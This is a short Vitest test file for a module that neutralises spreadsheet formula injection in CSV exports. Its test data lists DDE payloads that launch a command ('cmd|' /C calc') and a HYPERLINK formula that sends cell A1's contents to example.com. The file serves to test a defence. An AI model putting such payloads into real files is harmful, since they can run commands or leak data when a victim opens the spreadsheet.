import { describe, expect, it } from 'vitest';

import { csvText, neutralizeCell, restoreCell } from './csv-cell.js';

const FORMULAS = [
  '=HYPERLINK("https://example.com/?"&A1;"Klick")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
];

describe('CSV cells', () => {
  it('writes every formula-led cell as text (leading apostrophe)', () => {
    for (const formula of FORMULAS) expect(neutralizeCell(formula), JSON.stringify(formula)).toBe(`'${formula}`);
  });

  it('leaves numbers, negative ones included, and ordinary text as they are', () => {
    for (const value of ['-12.50', '-12,50', '-1.234,56', '-7', '0', '41990.00', 'GT-Line', 'e-tron', '', "'quoted"])
      expect(neutralizeCell(value), value).toBe(value);
  });

  it('gives back the value of a neutralised cell, and nothing else changes on the way back', () => {
    for (const value of [...FORMULAS, '-12.50', 'GT-Line', "'quoted", "'", ''])
      expect(restoreCell(neutralizeCell(value)), JSON.stringify(value)).toBe(value);
  });

  it('quotes a hand-written cell when it holds the separator, a quote or a line break', () => {
    expect(csvText('=HYPERLINK("x");Erika')).toBe(`"'=HYPERLINK(""x"");Erika"`);
    expect(csvText('-1')).toBe('-1');
    expect(csvText('-1+1')).toBe("'-1+1");
    expect(csvText(null)).toBe('');
  });
});
